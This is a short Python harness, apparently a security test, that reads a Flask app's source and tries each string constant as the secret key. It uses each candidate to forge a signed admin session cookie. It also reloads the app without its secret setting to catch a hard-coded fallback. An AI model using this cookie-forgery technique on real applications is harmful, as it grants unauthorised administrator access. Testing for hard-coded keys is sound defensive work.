"""Reads the source, and signs in as the administrator."""

import ast
import os
from pathlib import Path

from flask import Flask
from flask.sessions import SecureCookieSessionInterface


def prepare():
    os.environ["APP_SECRET"] = os.urandom(16).hex()


def attack(code):
    """Tries every text in the source as the key."""
    tree = ast.parse(Path(code.__file__).read_text(encoding="utf-8"))
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            answer = whoami(code, signed("admin", node.value))
            if answer == {"user": "admin"}:
                return f"GET /whoami\n{answer['user']}"
    return None


def bypass(code):
    """Where the setting was forgotten."""
    del os.environ["APP_SECRET"]
    code.__spec__.loader.exec_module(code)
    return attack(code)


def use(code):
    assert whoami(code, signed("ada", code.app.secret_key)) == {"user": "ada"}
    assert whoami(code, "nonsense") == {"user": None}


def signed(user, key):
    forger = Flask("forger")
    forger.secret_key = key or "none"
    return SecureCookieSessionInterface().get_signing_serializer(forger).dumps({"user": user})


def whoami(code, cookie):
    browser = code.app.test_client()
    browser.set_cookie("session", cookie)
    return browser.get("/whoami").get_json()
